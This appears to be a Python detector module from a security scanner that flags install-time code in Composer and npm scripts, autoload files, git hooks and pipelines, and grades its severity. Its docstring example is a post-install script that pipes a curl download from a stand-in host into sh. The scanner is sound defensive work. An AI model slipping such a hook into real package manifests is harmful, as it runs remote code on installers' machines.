"""# install-time-code.

## What it does
Lists code that runs when somebody installs or checks out the release, or on every request because a manifest says so:
scripts of `composer.json` and `package.json`, `autoload.files` of Composer, hooks of git, pipelines.

## Why is this bad
Such a line runs on the administrator's machine, or in every page, and nothing in the code calls it.

## Example
```json
{"scripts": {"post-install-cmd": "curl https://collector.example.net/i.sh | sh"}}
```

## References
- CWE-506, CWE-829
- MITRE ATT&CK T1195.002, Compromise Software Supply Chain
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.remarks import RISK, finding_of, first_of_each, is_sample, places
from scanner.model.finding import Category, Finding, Severity

RULE = rule(
    "install-time-code", Category.INTEGRITY, "Code that runs at installation or because a manifest says so", __doc__
)


def _find(scene: Scene) -> Iterable[Finding]:
    return first_of_each(_all(scene))


def _all(scene: Scene) -> Iterable[Finding]:
    for place in places(scene, "install"):
        remark = place.remark
        bundled = is_sample(place.path) or "/vendor/" in f"/{place.path}" or "/node_modules/" in f"/{place.path}"
        # Composer and npm run the scripts of the outermost package only, and no server runs a pipeline.
        idle = remark.grade in ("autoload", "pipeline") or (bundled and remark.api != "git hook")
        grave = remark.grade == "risk"
        yield finding_of(
            RULE,
            place,
            severity=Severity.LOW if grave and idle else Severity.INFO if idle else Severity.MEDIUM,
            details=[("command", remark.text), *([RISK] if grave and not idle else [])],
            message=f"{remark.api}: {remark.text}",
            api=remark.api if remark.grade != "autoload" else f"autoload {remark.text}",
        )


DETECTOR = Detector(RULE, _find)
